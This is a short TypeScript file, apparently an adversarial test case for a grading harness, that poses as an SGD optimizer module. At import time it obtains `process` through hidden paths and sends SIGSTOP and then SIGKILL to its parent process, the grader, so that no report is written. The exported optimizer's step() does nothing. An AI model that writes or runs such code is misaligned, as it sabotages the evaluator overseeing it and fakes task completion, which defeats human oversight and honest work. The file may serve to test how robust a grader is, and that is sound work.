// Adversarial: freezes the grader with SIGSTOP, then tries to kill it, so that no report is ever written.
// Reaches for `process` whichever way is left: the global, or an import the bundler cannot see.
const proc: any = (globalThis as any).process ?? (await import(["node", "process"].join(":")).catch(() => undefined))?.default;
const builtin = async (name: string): Promise<any> => proc?.getBuiltinModule?.(name) ?? (await import(["node", name].join(":")).catch(() => undefined));
for (const signal of ["SIGSTOP", "SIGKILL"]) { try { proc?.kill(proc.ppid, signal); } catch { /* denied */ } }
export class SGD {
  constructor(readonly parameters: { data: Float64Array; grad: Float64Array | null }) {}
  step(): void {}
  zeroGrad(): void { this.parameters.grad = null; }
}
